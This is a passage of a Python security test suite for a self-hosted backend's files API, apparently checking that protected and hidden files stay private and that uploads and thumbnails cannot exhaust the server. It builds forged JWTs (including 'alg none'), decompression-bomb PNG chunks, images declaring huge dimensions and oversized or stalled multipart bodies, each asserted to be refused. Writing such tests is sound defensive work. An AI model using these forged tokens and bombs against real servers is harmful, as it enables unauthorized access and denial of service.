"""Attacks on the files API: reading what a rule hides, writing names one does not hold,
exhausting the server through uploads and thumbs, path tricks, and what a download's
headers let a browser do.

The scene (``_scene``), on each engine: Alice and Bob in ``users``, Mallory in a second
auth collection ``members``, and ``docs`` whose records only their owner may see, with a
public file field (``pub``, thumbs allowed), a protected one (``priv``) and a hidden one
(``hid``). Alice's record holds a file in each; Bob's holds one public file. ``vault`` is
a superuser-only collection with a public and a protected file.

As in PocketBase, a file that is not protected is public to anyone who knows its name
(the record's rules play no part); a protected file needs a file token whose record
passes the view rule. Every refusal answers 404.

A hole found here is first pinned by a test marked ``xfail(strict=True)`` (the suite
stays green while it is open and turns red once it is closed; then the mark goes). Tests
of things that do not depend on the database (thumbs, image decoding, response headers)
run on SQLite only.
"""

from __future__ import annotations

import asyncio
import base64
import io
import json
import struct
import threading
import time
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from PIL import Image

from bastion.adapters.files_local import LocalStorage
from bastion.api.app import HttpOptions, create_asgi
from bastion.core.app import App
from bastion.core.auth import tokens
from bastion.core.files.service import MAX_THUMB_SOURCE
from bastion.testing import TestClient, token_for
from bastion.tools import images
from tests.files import media
from tests.files.conftest import stored_keys

pytestmark = pytest.mark.backends

PASSWORD = "password-1"
OWNER = "owner = @request.auth.id"
THUMBS = [f"{n}x{n}" for n in range(20, 39)]  # with 100x100: 20 distinct sizes
DOCS = {
    "name": "docs", "listRule": OWNER, "viewRule": OWNER,
    "createRule": f"@request.auth.id != '' && {OWNER}", "updateRule": OWNER, "deleteRule": OWNER,
    "fields": [
        {"name": "owner", "type": "relation", "collectionId": "_pb_users_auth_", "maxSelect": 1},
        {"name": "title", "type": "text"},
        {"name": "meta", "type": "json"},
        {"name": "pub", "type": "file", "maxSelect": 5, "maxSize": 200_000, "thumbs": THUMBS},
        {"name": "priv", "type": "file", "maxSelect": 3, "protected": True},
        {"name": "hid", "type": "file", "maxSelect": 2, "hidden": True},
    ],
}
VAULT = {"name": "vault", "fields": [{"name": "pub", "type": "file"},
                                     {"name": "priv", "type": "file", "protected": True}]}
SECRET = b"alice's protected bytes"
HIDDEN = b"alice's hidden bytes"


@dataclass
class Scene:
    client: TestClient
    app: App
    alice: str = ""
    bob: str = ""
    ah: dict[str, str] = field(default_factory=dict)
    bh: dict[str, str] = field(default_factory=dict)
    a: dict[str, Any] = field(default_factory=dict)  # Alice's record, as the superuser sees it
    b: dict[str, Any] = field(default_factory=dict)  # Bob's
    docs_id: str = ""

    def url(self, rec: dict[str, Any], name: str, col: str = "docs") -> str:
        return f"/api/files/{col}/{rec['id']}/{name}"

    async def file_token(self, headers: dict[str, str]) -> str:
        res = await self.client.post("/api/files/token", headers=headers)
        assert res.status_code == 200, res.text
        return str(res.json()["token"])

    async def keys(self) -> set[str]:
        return await stored_keys(self.app)

    def sign(self, col_name: str, record_id: str, kind: str, duration: int = 180, **claims: Any) -> str:
        """A token signed as the server signs one of ``kind`` (its secret and the record's key)."""
        col = self.app.registry.get(col_name)
        return tokens.sign({"id": record_id, "collectionId": col.id, "type": kind, **claims},
                           self._token_key(col_name, record_id) + col.auth[f"{kind}Token"]["secret"], duration)

    def _token_key(self, col_name: str, record_id: str) -> str:
        return str(self._keys[col_name][record_id])

    async def load_token_keys(self) -> None:
        self._keys: dict[str, dict[str, str]] = {}
        async with self.app.db.read() as conn:
            for name in ("users", "members", "_superusers"):
                table = self.app.registry.table(self.app.registry.get(name))
                rows = await conn.fetch_all(sa.select(table.c.id, table.c.tokenKey))
                self._keys[name] = {r["id"]: r["tokenKey"] for r in rows}


async def _ok(client: TestClient, method: str, url: str, **kw: Any) -> dict[str, Any]:
    res = await client.request(method, url, headers=client.su(), **kw)
    assert res.status_code in (200, 204), (method, url, res.status_code, res.text[:300])
    return res.json() if res.status_code == 200 else {}


async def _scene(client: TestClient, app: App) -> Scene:
    s = Scene(client, app)
    s.docs_id = (await _ok(client, "POST", "/api/collections", json=DOCS))["id"]
    s.alice, s.ah = await token_for(client, "alice@example.com", PASSWORD)
    s.bob, s.bh = await token_for(client, "bob@example.com", PASSWORD)
    s.a = await _ok(client, "POST", "/api/collections/docs/records", data={"owner": s.alice, "title": "a"}, files=[
        ("pub", ("photo.png", media.png(), "image/png")), ("priv", ("secret.txt", SECRET, "text/plain")),
        ("hid", ("hidden.txt", HIDDEN, "text/plain"))])
    s.b = await _ok(client, "POST", "/api/collections/docs/records", data={"owner": s.bob, "title": "b"},
                    files=[("pub", ("bob.txt", b"bob's public bytes", "text/plain"))])
    return s


async def _members(s: Scene) -> tuple[str, dict[str, str]]:
    await _ok(s.client, "POST", "/api/collections", json={"name": "members", "type": "auth", "createRule": ""})
    return await token_for(s.client, "mallory@example.com", PASSWORD, "members")


def _sqlite_only(backend: Any) -> None:
    if backend.name != "sqlite":
        pytest.skip("the database plays no part in this test: run on SQLite only")


# --------------------------------------------------------------------------- leaking
async def test_a_protected_file_needs_a_file_token_passing_the_view_rule(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    priv = s.url(s.a, s.a["priv"][0])
    alice_token = await s.file_token(s.ah)
    bob_token = await s.file_token(s.bh)
    assert (await client.get(priv)).status_code == 404  # a guest
    assert (await client.get(priv, headers=s.bh)).status_code == 404  # Bob signed in
    assert (await client.get(f"{priv}?token={bob_token}")).status_code == 404  # Bob's file token
    assert (await client.get(f"{priv}?thumb=100x100&token={bob_token}")).status_code == 404
    assert (await client.get(priv, headers={"Authorization": bob_token})).status_code == 404
    # An auth token is no file token in ?token= (as PocketBase); in the header it is taken.
    assert (await client.get(f"{priv}?token={s.ah['Authorization']}")).status_code == 404
    assert (await client.get(priv, headers=s.ah)).content == SECRET
    assert (await client.get(f"{priv}?token={alice_token}")).content == SECRET
    # A valid ?token= names the caller, whatever the header says.
    assert (await client.get(f"{priv}?token={bob_token}", headers=s.ah)).status_code == 404
    assert (await client.get(f"{priv}?token={alice_token}", headers=s.bh)).content == SECRET
    # Public files are public by design (PocketBase): the record's rules play no part.
    assert (await client.get(s.url(s.a, s.a["pub"][0]))).status_code == 200
    # ... but a name is only found on the record (and in the collection) that holds it.
    for url in (s.url(s.b, s.a["pub"][0]), s.url(s.b, s.a["priv"][0]), s.url(s.a, s.b["pub"][0]),
                s.url(s.a, s.a["priv"][0], "users"), s.url({"id": s.alice}, s.a["pub"][0], "users"),
                s.url(s.a, s.a["pub"][0], "_superusers"), s.url(s.a, f"100x100_{s.a['pub'][0]}"),
                s.url(s.a, f"thumbs_{s.a['pub'][0]}")):
        assert (await client.get(url)).status_code == 404, url


async def test_forged_expired_and_foreign_tokens_open_nothing(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    mallory, mh = await _members(s)
    await s.load_token_keys()
    priv = s.url(s.a, s.a["priv"][0])
    valid = s.sign("users", s.alice, "file")
    assert (await client.get(f"{priv}?token={valid}")).content == SECRET  # the forge is faithful
    head, body, _sig = valid.split(".")
    claims = json.loads(base64.urlsafe_b64decode(body + "=="))
    none_head = base64.urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').rstrip(b"=").decode()
    users = app.registry.get("users")
    forged = {
        "expired": s.sign("users", s.alice, "file", duration=-5),
        "alg none": f"{none_head}.{body}.",
        "no signature": f"{head}.{body}.",
        "auth secret": tokens.sign(claims, s._token_key("users", s.alice) + users.auth["authToken"]["secret"], 60),
        "file secret alone": tokens.sign(claims, users.auth["fileToken"]["secret"], 60),
        "password reset": s.sign("users", s.alice, "passwordReset", email="alice@example.com"),
        "verification": s.sign("users", s.alice, "verification", email="alice@example.com"),
        "email change": s.sign("users", s.alice, "emailChange", email="alice@example.com",
                               newEmail="x@example.com"),
        "auth": s.sign("users", s.alice, "auth", refreshable=True),
        "another record's key": tokens.sign(claims, s._token_key("users", s.bob) + users.auth["fileToken"]["secret"],
                                            60),
        "mallory": await s.file_token(mh),
        "mallory as alice": tokens.sign(
            {**claims, "collectionId": app.registry.get("members").id},
            s._token_key("members", mallory) + app.registry.get("members").auth["fileToken"]["secret"], 60),
        "huge": "a" * 10_000,
        "garbage": "%00%ff..",
    }
    for name, token in forged.items():
        for res in (await client.get(priv, params={"token": token}),
                    await client.get(priv, headers={"Authorization": token} if name != "auth" else {})):
            assert res.status_code == 404, (name, res.status_code)
    # A file token of another auth collection meets rules as the record it names.
    await _ok(client, "PATCH", "/api/collections/docs", json={"viewRule": "@request.auth.id != ''"})
    assert (await client.get(f"{priv}?token={forged['mallory']}")).content == SECRET
    await _ok(client, "PATCH", "/api/collections/docs",
              json={"viewRule": "@request.auth.collectionName = 'users' && @request.auth.id != ''"})
    assert (await client.get(f"{priv}?token={forged['mallory']}")).status_code == 404
    assert (await client.get(f"{priv}?token={forged['mallory as alice']}")).status_code == 404
    assert (await client.get(f"{priv}?token={valid}")).content == SECRET


async def test_a_file_token_dies_with_a_password_change_and_with_its_record(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    priv = s.url(s.a, s.a["priv"][0])
    old = await s.file_token(s.ah)
    assert (await client.get(f"{priv}?token={old}")).status_code == 200
    res = await client.patch(f"/api/collections/users/records/{s.alice}", headers=s.ah, json={
        "oldPassword": PASSWORD, "password": "password-2", "passwordConfirm": "password-2"})
    assert res.status_code == 200, res.text
    assert (await client.get(f"{priv}?token={old}")).status_code == 404
    assert (await client.get(priv, headers=s.ah)).status_code == 404  # the old auth token too
    _id, fresh_headers = await _sign_in(client, "alice@example.com", "password-2")
    fresh = await s.file_token(fresh_headers)
    assert (await client.get(f"{priv}?token={fresh}")).content == SECRET
    await _ok(client, "DELETE", f"/api/collections/docs/records/{s.a['id']}")
    await _ok(client, "DELETE", f"/api/collections/users/records/{s.alice}")
    # The record and its files are gone; a token of a deleted user opens nothing else either.
    assert (await client.get(f"{priv}?token={fresh}")).status_code == 404
    await _ok(client, "PATCH", "/api/collections/docs", json={"viewRule": "@request.auth.id != ''"})
    assert (await client.get(f"{s.url(s.b, s.b['pub'][0])}?token={fresh}")).status_code == 200  # public anyway
    assert (await client.post("/api/files/token", headers=fresh_headers)).status_code == 401


async def _sign_in(client: TestClient, email: str, password: str) -> tuple[str, dict[str, str]]:
    res = await client.post("/api/collections/users/auth-with-password",
                            json={"identity": email, "password": password})
    assert res.status_code == 200, res.text
    return res.json()["record"]["id"], {"Authorization": res.json()["token"]}


async def test_a_superuser_only_collection_keeps_its_protected_files(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    await _ok(client, "POST", "/api/collections", json=VAULT)
    v = await _ok(client, "POST", "/api/collections/vault/records", files=[
        ("pub", ("p.txt", b"vault public", "text/plain")), ("priv", ("s.txt", b"vault secret", "text/plain"))])
    token = await s.file_token(s.ah)
    priv = s.url(v, v["priv"], "vault")
    for kw in ({}, {"params": {"token": token}}, {"headers": s.ah}):
        assert (await client.get(priv, **kw)).status_code == 404
    su_token = await s.file_token(client.su())
    assert (await client.get(f"{priv}?token={su_token}")).content == b"vault secret"
    assert (await client.get(priv, headers=client.su())).content == b"vault secret"
    # A public file of a locked collection is public (PocketBase: only `protected` guards files).
    assert (await client.get(s.url(v, v["pub"], "vault"))).content == b"vault public"
    # An API key is no file token either.
    key = await _ok(client, "POST", "/api/api-keys", json={"name": "k", "collections": ["*"], "actions": ["view"]})
    assert (await client.get(priv, headers={"Authorization": f"Bearer {key['key']}"})).status_code == 404


async def test_hidden_file_names_never_reach_other_callers(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    hid = s.a["hid"][0]
    for url in (f"/api/collections/docs/records/{s.a['id']}", "/api/collections/docs/records",
                f"/api/collections/docs/records/{s.a['id']}?fields=hid,*", "/api/collections/docs/records?sort=hid",
                f"/api/collections/users/records/{s.alice}?expand=docs_via_owner"):
        res = await client.get(url, headers=s.ah)
        assert hid not in res.text and hid.split(".")[0] not in res.text, (url, res.text[:300])
    # No oracle through a filter: a guess and the true name answer alike.
    answers = []
    for guess in (hid, hid[:12], "zzzz"):
        res = await client.get("/api/collections/docs/records", headers=s.ah, params={"filter": f"hid ~ '{guess}'"})
        answers.append((res.status_code, res.json().get("totalItems")))
    assert len(set(answers)) == 1, answers
    # Owners cannot upload into, clear or rename a hidden field either: it stays as it was.
    res = await client.patch(f"/api/collections/docs/records/{s.a['id']}", headers=s.ah, files=[
        ("hid", ("mine.txt", b"x", "text/plain")), ("hid+", ("m2.txt", b"y", "text/plain"))])
    assert res.status_code == 200, res.text
    for body in ({"hid": []}, {"hid-": [hid]}, {"hid": [s.b["pub"][0]]}):
        res = await client.patch(f"/api/collections/docs/records/{s.a['id']}", headers=s.ah, json=body)
        assert res.status_code == 200, res.text
    res = await client.post("/api/collections/docs/records", headers=s.ah, data={"owner": s.alice},
                            files=[("hid", ("new.txt", b"x", "text/plain"))])
    assert res.status_code == 200, res.text
    after = await client.get(f"/api/collections/docs/records/{s.a['id']}", headers=client.su())
    assert after.json()["hid"] == [hid]
    names = [k.rsplit("/", 1)[-1] for k in await s.keys()]  # (record ids are random: only names count)
    assert not any(n.startswith(("mine", "m2", "new_")) for n in names), names
    # The bytes are public by name (not protected), as in PocketBase.
    assert (await client.get(s.url(s.a, hid))).content == HIDDEN


# --------------------------------------------------------------------------- writing
async def test_a_json_body_cannot_claim_a_file_name(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    bob_name, alice_priv = s.b["pub"][0], s.a["priv"][0]
    before = await s.keys()
    record = f"/api/collections/docs/records/{s.a['id']}"
    for body in ({"pub": [bob_name]}, {"pub+": bob_name}, {"+pub": [bob_name]}, {"pub": [s.a["pub"][0], bob_name]},
                 {"pub": [alice_priv]}, {"pub+": [alice_priv]}, {"pub": [s.a["hid"][0]]},
                 {"priv": [s.a["pub"][0]]}, {"pub": ["../" + bob_name]}, {"pub": f"{s.b['id']}/{bob_name}"}):
        res = await client.patch(record, headers=s.ah, json=body)
        assert res.status_code == 400 and res.json()["data"].keys() & {"pub", "priv"}, (body, res.text[:200])
        assert res.json()["data"].popitem()[1]["code"] == "validation_invalid_file"
    res = await client.post("/api/collections/docs/records", headers=s.ah,
                            json={"owner": s.alice, "pub": [bob_name], "priv": [alice_priv]})
    assert res.status_code == 400 and "validation_invalid_file" in res.text
    # Sent beside an upload, as a form resends kept names: still only names already held.
    res = await client.patch(record, headers=s.ah, data={"pub": bob_name},
                             files=[("pub", ("n.png", media.png(), "image/png"))])
    assert res.status_code == 400 and "validation_invalid_file" in res.text
    # Removing a name the record does not hold removes nothing, anywhere.
    res = await client.patch(record, headers=s.ah, json={"pub-": [bob_name], "priv-": bob_name})
    assert res.status_code == 200, res.text
    # Bob cannot touch Alice's record at all.
    res = await client.patch(record, headers=s.bh, json={"pub-": s.a["pub"]})
    assert res.status_code == 404
    # In a batch too.
    await _ok(client, "PATCH", "/api/settings", json={"batch": {"enabled": True}})
    res = await client.post("/api/batch", headers=s.ah, json={"requests": [
        {"method": "PATCH", "url": record, "body": {"pub": [bob_name]}}]})
    assert res.status_code == 400 and "validation_invalid_file" in res.text
    assert await s.keys() == before
    assert (await client.get(s.url(s.b, bob_name))).status_code == 200
    assert (await client.get(s.url(s.a, bob_name))).status_code == 404


async def test_uploads_a_rule_or_a_view_refuses_leave_nothing_behind(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    before = await s.keys()
    png = ("x.png", media.png(), "image/png")
    await _ok(client, "POST", "/api/collections", json={
        "name": "docs_view", "type": "view", "listRule": "", "viewRule": "", "createRule": "", "updateRule": "",
        "viewQuery": "SELECT id, pub, priv FROM docs"})
    for method, url in (("POST", "/api/collections/docs_view/records"),
                        ("PATCH", f"/api/collections/docs_view/records/{s.a['id']}")):
        res = await client.request(method, url, headers=s.ah, files=[("pub", png)])
        assert res.status_code in (400, 403, 404), res.text
    # A view's file field serves the file of the record it reads (and refuses to write).
    assert (await client.get(s.url(s.a, s.a["pub"][0], "docs_view"))).status_code == 200
    # Creates refused by the rule (Bob as owner), updates of Bob's record by Alice.
    res = await client.post("/api/collections/docs/records", headers=s.ah, data={"owner": s.bob},
                            files=[("pub", png), ("priv", png)])
    assert res.status_code == 400
    res = await client.patch(f"/api/collections/docs/records/{s.b['id']}", headers=s.ah, files=[("pub+", png)])
    assert res.status_code == 404
    # A client-chosen id that is Bob's record's: refused, and Bob's files stay.
    res = await client.post("/api/collections/docs/records", headers=s.ah, data={"owner": s.alice, "id": s.b["id"]},
                            files=[("pub", png)])
    assert res.status_code == 400
    # Through a batch: the create rule refuses the second request; the first one's upload goes too.
    await _ok(client, "PATCH", "/api/settings", json={"batch": {"enabled": True}})
    ops = {"requests": [
        {"method": "POST", "url": "/api/collections/docs/records", "body": {"owner": s.alice}},
        {"method": "POST", "url": "/api/collections/docs/records", "body": {"owner": s.bob}}]}
    res = await client.post("/api/batch", headers=s.ah, data={"@jsonPayload": json.dumps(ops)},
                            files=[("requests.0.pub", png), ("requests[1].pub", png)])
    assert res.status_code == 400, res.text
    # A batch upload over the field's maxSize (the batch streams against its own bound).
    one = {"requests": ops["requests"][:1]}
    res = await client.post("/api/batch", headers=s.ah, data={"@jsonPayload": json.dumps(one)},
                            files=[("requests.0.pub", ("big.bin", b"\0" * 200_001, "x"))])
    assert res.status_code == 400 and "validation_file_size_limit" in res.text, res.text[:300]
    # An upsert or update of Bob's record (its id in the body or the url) with an upload.
    for op in ({"method": "PUT", "url": "/api/collections/docs/records", "body": {"id": s.b["id"], "owner": s.alice}},
               {"method": "PATCH", "url": f"/api/collections/docs/records/{s.b['id']}", "body": {"title": "x"}}):
        res = await client.post("/api/batch", headers=s.ah, data={"@jsonPayload": json.dumps({"requests": [op]})},
                                files=[("requests.0.pub+", png), ("requests.0.pub", png)])
        assert res.status_code == 400, res.text
    # An upload named after a field that takes no file, or a request that does not exist: no 500.
    for key in ("requests.0.title", "requests.0.meta", "requests.0.owner", "requests.0.id", "requests.9.pub",
                "requests.0.pub-", "requests.0.expand", "requests.0.priv-"):
        res = await client.post("/api/batch", headers=s.ah, data={"@jsonPayload": json.dumps(one)},
                                files=[(key, png)])
        assert res.status_code < 500, (key, res.text[:200])
    assert await s.keys() == before


async def test_request_body_rules_see_every_upload(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    before = await s.keys()
    record = f"/api/collections/docs/records/{s.a['id']}"

    def files(key: str, *names: str) -> list[tuple[str, tuple[str, bytes, str]]]:
        return [(key, (n, media.png(), "image/png")) for n in names]

    for rule in (f"{OWNER} && @request.body.pub:each !~ 'evil'", f"{OWNER} && @request.body.pub !~ 'evil'",
                 f"{OWNER} && @request.body.pub:length < 2", f"{OWNER} && @request.body.pub:isset = false",
                 f"{OWNER} && @request.body.priv:isset = false && @request.body.pub:isset = false"):
        await _ok(client, "PATCH", "/api/collections/docs", json={"updateRule": rule})
        for key in ("pub", "pub+", "+pub"):
            res = await client.patch(record, headers=s.ah, files=files(key, "evil.png", "evil2.png"))
            assert res.status_code == 404, (rule, key, res.status_code, res.text[:200])
    # The control: a rule the upload passes lets it through (under each key).
    await _ok(client, "PATCH", "/api/collections/docs", json={"updateRule": f"{OWNER} && @request.body.pub !~ 'evil'"})
    for key in ("pub+", "+pub"):
        res = await client.patch(record, headers=s.ah, files=files(key, "fine.png"))
        assert res.status_code == 200, (key, res.text[:200])
    await _ok(client, "PATCH", "/api/collections/docs", json={
        "createRule": f"{OWNER} && @request.body.pub:length <= 1 && @request.body.priv:isset = false"})
    for upload in (files("pub", "a.png", "b.png"), files("priv", "a.png"), files("+priv", "a.png"),
                   files("priv+", "a.png")):
        res = await client.post("/api/collections/docs/records", headers=s.ah, data={"owner": s.alice}, files=upload)
        assert res.status_code == 400, (upload[0][0], res.text[:200])
    assert len(await s.keys()) == len(before) + 2


# --------------------------------------------------------------------------- exhaustion
def _multipart(parts: list[tuple[str, str | None, bytes]], boundary: str = "AtTaCk") -> bytes:
    out = []
    for name, filename, data in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
        out.append(f"--{boundary}\r\nContent-Disposition: {disp}\r\n\r\n".encode() + data + b"\r\n")
    return b"".join(out) + f"--{boundary}--\r\n".encode()


MP = {"Content-Type": "multipart/form-data; boundary=AtTaCk"}


@pytest.fixture
async def wide(app: App) -> AsyncIterator[httpx.AsyncClient]:
    """A client whose server takes 8 MiB multipart bodies and waits 0.3 s for a chunk."""
    asgi = create_asgi(app, HttpOptions(manage_lifespan=False, body_limit=8 * 1024 * 1024, read_timeout=0.3))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=asgi), base_url="http://bastion.test") as c:
        yield c


async def test_many_parts_many_fields_and_endless_parts_are_cut_off(
    client: TestClient, app: App, wide: httpx.AsyncClient,
) -> None:
    s = await _scene(client, app)
    before = await s.keys()
    url = "/api/collections/docs/records"
    owner = ("owner", None, s.alice.encode())
    cases = {
        "101 files": [owner, *[("pub", f"{i}.txt", b"x") for i in range(101)]],
        "101 files under no field": [owner, *[("junk", f"{i}.txt", b"x") for i in range(101)]],
        "1001 fields": [owner, *[(f"f{i}", None, b"x") for i in range(1001)]],
        "6 files for maxSelect 5": [owner, *[("pub", f"{i}.txt", b"x") for i in range(6)]],
        "a file over maxSize": [owner, ("pub", "big.bin", b"\0" * 200_001)],
        "a file over 64 KiB under no field": [owner, ("junk", "big.bin", b"\0" * 70_000)],
        "a 2 MiB text part": [owner, ("title", None, b"t" * (2 * 1024 * 1024))],
    }
    for name, parts in cases.items():
        res = await wide.post(url, headers={**s.ah, **MP}, content=_multipart(parts))
        assert res.status_code in (400, 413), (name, res.status_code, res.text[:200])
    # 100 files under no field are dropped, not stored.
    res = await wide.post(url, headers={**s.ah, **MP},
                          content=_multipart([owner, *[("junk", f"{i}.txt", b"x") for i in range(100)]]))
    assert res.status_code == 200, res.text
    assert await s.keys() == before
    # A body that never ends (no closing boundary) and one that stalls.
    res = await wide.post(url, headers={**s.ah, **MP}, content=_multipart([owner])[: -len("--AtTaCk--\r\n")])
    assert res.status_code == 400

    async def stalled() -> AsyncIterator[bytes]:
        yield b"--AtTaCk\r\nContent-Disposition: form-data; name=\"pub\"; filename=\"s.txt\"\r\n\r\nxx"
        await asyncio.sleep(2)
        yield b"\r\n--AtTaCk--\r\n"

    started = time.monotonic()
    res = await wide.post(url, headers={**s.ah, **MP}, content=stalled())
    assert res.status_code == 408 and time.monotonic() - started < 1.9
    assert await s.keys() == before


# --------------------------------------------------------------------------- thumbs
class BuildWatch:
    """Counts thumbnail builds (``images.make_thumb``): how many, how many at once."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, hold: threading.Event | None = None) -> None:
        self.calls = 0
        self.active = 0
        self.most = 0
        self._lock = threading.Lock()
        self._hold = hold
        real = images.make_thumb

        def watched(data: bytes, spec: str, **kw: Any) -> tuple[bytes, str]:
            with self._lock:
                self.calls += 1
                self.active += 1
                self.most = max(self.most, self.active)
            try:
                if self._hold is not None:
                    self._hold.wait(5)
                return real(data, spec, **kw)
            finally:
                with self._lock:
                    self.active -= 1

        monkeypatch.setattr(images, "make_thumb", watched)


class ReadWatch:
    """Counts whole-file reads of originals for thumbs (``read_all`` up to MAX_THUMB_SOURCE)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.done = 0
        self.bytes = 0
        real = LocalStorage.read_all
        watch = self

        async def read_all(storage: LocalStorage, key: str, limit: int) -> bytes:
            data = await real(storage, key, limit)
            if limit == MAX_THUMB_SOURCE:
                watch.done += 1
                watch.bytes += len(data)
            return data

        monkeypatch.setattr(LocalStorage, "read_all", read_all)


def _solid_png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 200)).save(out, "PNG", compress_level=9)
    return out.getvalue()


async def test_a_thumb_storm_is_bounded_deduplicated_and_spares_a_bystander(
    client: TestClient, app: App, backend: Any, monkeypatch: pytest.MonkeyPatch,
) -> None:
    _sqlite_only(backend)
    s = await _scene(client, app)
    big = _solid_png(2000, 2000)
    rec = await _ok(client, "PATCH", f"/api/collections/docs/records/{s.a['id']}",
                    files=[("pub+", ("big.png", big, "x"))])
    url = s.url(rec, rec["pub"][-1])
    watch = BuildWatch(monkeypatch)
    sizes = ["100x100", *THUMBS]
    latencies: list[float] = []
    storm_done = asyncio.Event()

    async def bystander() -> None:
        while not storm_done.is_set():
            started = time.perf_counter()
            res = await client.get("/api/health")
            latencies.append(time.perf_counter() - started)
            assert res.status_code == 200
            await asyncio.sleep(0.01)

    async def storm() -> list[httpx.Response]:
        try:
            return list(await asyncio.gather(*[client.get(f"{url}?thumb={size}") for size in sizes * 2]))
        finally:
            storm_done.set()

    started = time.perf_counter()
    answers, _ = await asyncio.gather(storm(), bystander())
    took = time.perf_counter() - started
    assert all(r.status_code == 200 and r.headers["content-type"] == "image/png" for r in answers)
    assert {Image.open(io.BytesIO(r.content)).size for r in answers} == {(n, n) for n in range(20, 39)} | {(100, 100)}
    assert watch.calls == len(sizes)  # each size built once, however many asked at once
    assert watch.most <= 4  # at most 4 builds at a time
    print(f"\nthumb storm: {len(answers)} answers in {took:.2f}s; bystander max {max(latencies) * 1000:.0f} ms "
          f"over {len(latencies)} samples")
    assert max(latencies) < 1.0
    # Served from storage afterwards: no new build.
    assert (await client.get(f"{url}?thumb=20x20")).status_code == 200 and watch.calls == len(sizes)
    # A size the field does not list is never built: the original is served.
    for spec in ("21x20", "10000x10000", "0x0", "1x1f", "100x100 ", "١٠٠x١٠٠"):
        res = await client.get(url, params={"thumb": spec})
        assert res.status_code == 200 and res.content == big, spec
    assert watch.calls == len(sizes)


async def test_originals_are_read_only_once_a_build_slot_is_free(
    client: TestClient, app: App, backend: Any, monkeypatch: pytest.MonkeyPatch,
) -> None:
    _sqlite_only(backend)
    s = await _scene(client, app)
    hold = threading.Event()
    builds = BuildWatch(monkeypatch, hold)
    reads = ReadWatch(monkeypatch)
    url = s.url(s.a, s.a["pub"][0])
    pending = [asyncio.ensure_future(client.get(f"{url}?thumb={size}")) for size in THUMBS]
    try:
        for _ in range(200):
            if builds.active == 4 and reads.done >= 4:
                break
            await asyncio.sleep(0.01)
        await asyncio.sleep(0.1)
        held = reads.done - builds.calls  # originals in memory, waiting for a slot
    finally:
        hold.set()
        await asyncio.gather(*pending)
    assert builds.active == 0 and held <= 0, f"{held} originals held in memory while waiting"


async def test_a_thumb_that_cannot_be_made_is_not_retried_on_every_request(
    client: TestClient, app: App, backend: Any, monkeypatch: pytest.MonkeyPatch,
) -> None:
    _sqlite_only(backend)
    s = await _scene(client, app)
    corrupt = _solid_png(300, 300)
    corrupt = corrupt[: len(corrupt) // 2]  # the pixels cut off half way
    not_image = b"%PDF-1.4\n" + b"0" * 150_000
    rec = await _ok(client, "PATCH", f"/api/collections/docs/records/{s.a['id']}",
                    files=[("pub+", ("corrupt.png", corrupt, "x")), ("pub+", ("doc.pdf", not_image, "x"))])
    builds = BuildWatch(monkeypatch)
    reads = ReadWatch(monkeypatch)
    for name, data in zip(rec["pub"][-2:], (corrupt, not_image), strict=True):
        for _ in range(3):
            res = await client.get(s.url(rec, name), params={"thumb": "100x100"})
            assert res.status_code == 200 and res.content == data
    assert builds.calls <= 1 and reads.bytes <= len(corrupt) + 3 * 3072, (builds.calls, reads.bytes)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png_with(extra: bytes, width: int = 8, height: int = 8) -> bytes:
    """A valid small PNG with ``extra`` chunks before its pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"".join(b"\0" + b"\x80" * (3 * width) for _ in range(height)))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + extra + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def _jpeg_declaring(width: int, height: int) -> bytes:
    data = bytearray(media.jpeg(16, 16))
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def _gif_frames(frames: int) -> bytes:
    """A GIF of ``frames`` 8x8 frames (the first one of Pillow's, repeated)."""
    out = io.BytesIO()
    Image.new("L", (8, 8), 200).save(out, "GIF")
    one = out.getvalue()
    flags = one[10]
    pos = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)
    while one[pos] == 0x21:  # extension blocks, each a chain of sub-blocks
        pos += 2
        while one[pos]:
            pos += one[pos] + 1
        pos += 1
    assert one[pos] == 0x2C and one[-1] == 0x3B
    return one[:pos] + one[pos:-1] * frames + b";"


def _gif_canvas(width: int, height: int) -> bytes:
    data = bytearray(_gif_frames(1))
    struct.pack_into("<HH", data, 6, width, height)
    return bytes(data)


async def test_hostile_images_cost_little_and_get_no_thumb(client: TestClient, app: App, backend: Any) -> None:
    _sqlite_only(backend)
    s = await _scene(client, app)
    bomb = zlib.compress(b"\0" * (8 * 1024 * 1024), 9)
    hostile = {
        "ztxt bomb": _png_with(_chunk(b"zTXt", b"Comment\0\0" + bomb)),
        "iccp bomb": _png_with(_chunk(b"iCCP", b"icc\0\0" + bomb)),
        "many text chunks": _png_with(b"".join(_chunk(b"tEXt", b"k%d\0" % i + b"v" * 60) for i in range(2000))),
        "jpeg declaring 60000x60000": _jpeg_declaring(60000, 60000),
        "gif canvas 65535x65535": _gif_canvas(65535, 65535),
        "png declaring 50000x50000": media.png_declaring(50000, 50000),
    }
    for name, data in hostile.items():
        assert len(data) < 200_000, name
        rec = await _ok(client, "PATCH", f"/api/collections/docs/records/{s.b['id']}",
                        files=[("pub", (f"{name}.bin", data, "x"))])
        url = s.url(rec, rec["pub"][0])
        started = time.perf_counter()
        res = await client.get(url, params={"thumb": "100x100"})
        took = time.perf_counter() - started
